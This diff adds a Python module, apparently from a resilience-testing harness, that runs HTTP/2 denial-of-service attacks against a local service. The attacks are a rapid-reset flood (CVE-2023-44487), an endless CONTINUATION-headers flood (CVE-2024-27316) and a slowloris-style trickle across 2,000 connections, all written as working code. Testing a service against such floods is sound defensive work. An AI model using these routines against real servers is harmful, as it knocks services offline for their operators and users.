@@ -1,0 +1,78 @@
+"""Floods of frames of HTTP/2, and many senders that are slow."""
+import asyncio
+
+from . import http2
+from .abusers import abuse
+
+# What is written before the service's answers are looked at.
+STREAMS_AT_ONCE = 100
+CONTINUATION_BYTES = 16_000
+
+
+async def flood(abuser, frames):
+    """Writes frames again and again, and takes what comes, until the service ends the connection; how it did."""
+    async with abuser.client.connection() as (reader, writer):
+        writer.write(http2.begin(window_bytes=65_535))
+        if http2.kind_of(await reader.readexactly(http2.FRAME_HEAD_BYTES)) != http2.SETTINGS:
+            return "cut"
+        abuser.outcomes["held"] += 1
+        return await until_cut(reader, writer, frames)
+
+
+async def until_cut(reader, writer, frames):
+    ended = asyncio.create_task(reader.read(-1))
+    try:
+        while not ended.done():
+            writer.write(next(frames))
+            await writer.drain()
+            await asyncio.sleep(0)
+        return "told to go" if http2.GOAWAY in http2.kinds(await ended) else "cut"
+    finally:
+        ended.cancel()
+        await asyncio.gather(ended, return_exceptions=True)
+
+
+def key_of(client):
+    return [("x-api-key", client.credentials.split(": ", 1)[1].strip())]
+
+
+@abuse
+async def rapid_resets(abuser):
+    """Calls that are given up at once, over and over (CVE-2023-44487)."""
+    client = abuser.client
+
+    def calls():
+        first, authority = 1, f"127.0.0.1:{client.port}"
+        while True:
+            streams = range(first, first + 2 * STREAMS_AT_ONCE, 2)
+            yield b"".join(http2.get(stream, "/v1/requests?full=true", authority, key_of(client)) + http2.reset(stream) for stream in streams)
+            first += 2 * STREAMS_AT_ONCE
+
+    await abuser.repeat(4, lambda number: flood(abuser, calls()))
+
+
+@abuse
+async def endless_headers(abuser):
+    """A call whose header fields go on without end (CVE-2024-27316)."""
+    def pieces():
+        yield http2.open_head(1)
+        while True:
+            yield http2.go_on(1, CONTINUATION_BYTES)
+
+    await abuser.repeat(4, lambda number: flood(abuser, pieces()))
+
+
+@abuse
+async def slow_senders(abuser):
+    """2,000 connections on which a call comes a byte a second."""
+    async def trickle(number):
+        async with abuser.client.connection() as (reader, writer):
+            abuser.outcomes["held"] += 1
+            for byte in abuser.client.head("GET", "/v1/account"):
+                writer.write(bytes([byte]))
+                await writer.drain()
+                if reader.at_eof():
+                    return "cut"
+                await asyncio.sleep(1)
+            return "sent"
+    await abuser.repeat(abuser.some(2_000), trickle)
